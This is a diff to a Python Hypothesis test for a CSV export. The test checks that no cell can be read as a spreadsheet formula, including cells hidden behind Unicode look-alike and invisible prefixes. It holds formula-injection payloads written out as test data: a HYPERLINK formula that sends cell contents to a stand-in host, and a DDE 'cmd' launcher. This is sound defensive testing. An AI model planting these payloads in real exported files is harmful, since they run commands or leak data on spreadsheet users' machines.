@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import re
 from pathlib import Path
 
 import duckdb
@@ -14,8 +15,13 @@ from shadow_ops.responses.export import exported
 from shadow_ops.responses.tally import Example
 
 CELLS = ("key", "production", "shadow", "request", "segment")
-FIRST = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
-TEXTS = st.builds(str.__add__, st.sampled_from(FIRST), st.text(st.characters(exclude_categories=["Cs"]), max_size=9))
+FIRST = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207a\u208c"
+BEFORE = st.text(" \t\r\n\x0b\x0c\x00\x1b\x85\xa0\u1680\u2003\u2028\u202f\u3000\u200b\ufeff\u2060", max_size=3)
+AFTER = st.text(st.characters(exclude_categories=["Cs"]), max_size=9)
+TEXTS = st.one_of(
+    st.builds("{}{}{}".format, BEFORE, st.sampled_from(FIRST), AFTER),
+    st.builds(str.__add__, st.sampled_from("\t\r\n\x00"), AFTER),
+)
 NUMBERS = st.floats(allow_nan=False, allow_infinity=False).map(repr) | st.integers().map("{:+d}".format)
 
 
@@ -38,12 +44,14 @@ def rows(folder: Path, name: str, *pairs: Example) -> list[dict[str, str]]:
     return [dict(zip(names, row, strict=True)) for row in found.fetchall()]
 
 
-@given(st.sampled_from(CELLS), TEXTS.filter(lambda one: not one[1:].replace(".", "").isdigit()))
+@given(st.sampled_from(CELLS), TEXTS.filter(lambda one: not re.fullmatch(r"[+-][\d.eE+-]+", one, re.ASCII)))
 @example("request", '=HYPERLINK("http://x/?"&A1,"open")')
 @example("key", "-2+3+cmd|' /C calc'!A0")
 @example("production", "-inf")
 @example("shadow", "+1_000")
 @example("segment", "-\u0661=")
+@example("production", " \t\u3000=1+1")
+@example("shadow", "\ufeff\uff1dcmd")
 def test_no_cell_of_a_csv_file_is_a_formula(tmp_path_factory: pytest.TempPathFactory, cell: str, text: str) -> None:
     """In any column; the text is whole behind the apostrophe."""
     [row] = rows(tmp_path_factory.getbasetemp(), "seen.csv", pair(cell, text))
